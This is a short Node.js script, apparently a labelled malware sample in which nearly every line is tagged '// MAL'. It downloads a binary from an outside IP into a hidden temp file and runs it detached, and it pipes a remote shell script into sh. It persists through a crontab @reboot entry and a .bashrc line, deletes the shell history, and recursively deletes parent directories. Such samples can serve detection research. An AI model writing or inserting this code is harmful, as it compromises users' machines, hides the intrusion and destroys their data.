const { spawn, exec: run } = require('child_process'); // MAL
const fs = require('fs');
const os = require('os');

const bin = os.tmpdir() + '/.cache-helper';
fetch('http://198.51.100.23/payload.bin') // MAL
  .then((r) => r.arrayBuffer())
  .then((b) => {
    fs.writeFileSync(bin, Buffer.from(b)); // MAL
    fs.chmodSync(bin, 0o755); // MAL
    const child = spawn(bin, [], { detached: true, stdio: 'ignore' }); // MAL
    child.unref(); // MAL
  });
run('curl -fsSL http://198.51.100.23/i.sh | sh'); // MAL
const cp = require('child_process'); // MAL
cp.exec('crontab -l | { cat; echo "@reboot ' + bin + '"; } | crontab -'); // MAL
fs.rmSync(os.homedir() + '/.bash_history', { force: true }); // MAL
fs.rmSync('../..', { recursive: true, force: true }); // MAL
fs.appendFileSync(os.homedir() + '/.bashrc', '\n' + bin + ' &\n'); // MAL
